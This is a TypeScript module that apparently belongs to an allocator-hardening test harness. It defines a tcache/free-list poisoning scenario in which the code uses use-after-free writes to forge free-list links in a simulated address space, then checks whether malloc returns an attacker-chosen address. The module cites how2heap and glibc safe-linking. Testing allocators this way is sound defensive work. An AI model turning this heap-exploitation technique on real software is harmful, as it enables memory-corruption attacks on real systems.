/*
 * Free-list poisoning (tcache poisoning): a use-after-free write replaces the link a freed block
 * holds to the next free block, so the list's later pops follow it and malloc hands out an address
 * the attacker chose.
 *
 * Steps, per attempt (one link offset k each, LINK_OFFSETS):
 *   1. the program maps a page of its own (the target: its data, never the allocator's);
 *   2. it allocates COUNT blocks of SIZE bytes and frees them all, in order — more than any
 *      per-thread cache holds (glibc's tcache 7, bump-freestack's 128), so some freed blocks sit
 *      on a list linked through the blocks themselves;
 *   3. through each dangling pointer p it writes one 32-bit word at p + k: the address
 *      target + 0x800. k = 0 is the first word of the freed block, where glibc's tcache and
 *      bump-freestack's free stacks keep `next`; k = −8 is dlmalloc-style's tcache and bin link
 *      (chunk + 8); −4, −16, −24 are the header words of other layouts and of an allocator under a
 *      wrapper with a 16-byte front zone. Addresses are 32-bit here, so the link is one word. A
 *      header word (k < 0) on a page that is not writable is skipped: it holds no link;
 *   4. it allocates SIZE bytes again, COUNT + 8 times, and stops at the first pointer inside its
 *      own page (the space's owner table says whose page it is).
 * Goal: malloc returns an address in the program's mapping (chosen address returned). If the
 * allocator instead writes into that page while following the forged link (an unlink), that is
 * the goal too (chosen address written).
 */

import { PROT_WRITE, type Allocator } from '../../api.js';
import type { AddressSpace } from '../../space/address-space.js';
import { LINK_OFFSETS, changedWord, hx, inMapping, programMapping, snapshot, type AttackAttempt, type AttackScenario, type Reached } from './kit.js';

const SIZE = 32;
const COUNT = 300;

function attempt(k: number): AttackAttempt {
  return {
    name: `link at p${k === 0 ? '' : k > 0 ? `+${k}` : k}`,
    run(a: Allocator, space: AddressSpace): Reached | string {
      const target = programMapping(space);
      const forged = target + 0x800;
      const blocks: number[] = [];
      for (let i = 0; i < COUNT; i++) {
        const p = a.malloc(SIZE);
        if (p === 0) return 'out of memory while preparing';
        blocks.push(p);
      }
      for (const p of blocks) a.free(p);
      for (const p of blocks) {
        // The block's own first word is written whatever happened to it (a fault there is the
        // allocator's doing: it unmapped the freed block); a header word below the heap's first
        // block is no link, and an attacker would not aim at an unmapped page.
        if (k === 0 || space.accessible(p + k, 4, PROT_WRITE)) space.store32(p + k, forged);
      }
      const before = snapshot(space, target, space.pageSize);
      for (let i = 0; i < COUNT + 8; i++) {
        const q = a.malloc(SIZE);
        if (q !== 0 && inMapping(space, target, q)) {
          return { primitive: 'chosen address returned', detail: `malloc(${SIZE}) returned ${hx(q)}, in the program's own page at ${hx(target)}, after the links of freed blocks at p${k || ''} were set to ${hx(forged)}` };
        }
        const w = changedWord(space, target, before);
        if (w !== null) return { primitive: 'chosen address written', detail: `following the forged link, the allocator wrote ${hx(w.value)} at ${hx(w.addr)} in the program's page` };
      }
      return `no malloc returned the forged address (links at p${k || ''})`;
    },
  };
}

export const freeListPoisoning: AttackScenario = {
  name: 'free-list-poisoning',
  title: 'free-list poisoning (tcache poisoning)',
  what: "A write after free overwrites a freed block's link to the next free block, so a later malloc returns an address the attacker chose.",
  source: "how2heap's tcache_poisoning.c (shellphish/how2heap); the mitigation is glibc 2.32's safe-linking (Check Point Research, Eyal Itkin, \"Safe-Linking – Eliminating a 20 year-old malloc() exploit primitive\", 2020)",
  writes: `after freeing ${COUNT} blocks of ${SIZE} bytes, one 32-bit word, the address of the program's own page + 0x800, at p + k of every freed block p, for k in {${LINK_OFFSETS.join(', ')}} (one attempt each): the first word of the block (glibc's tcache next, bump-freestack's stack link) and the header words below it (dlmalloc-style's link at chunk + 8 = p − 8)`,
  attempts: LINK_OFFSETS.map(attempt),
};
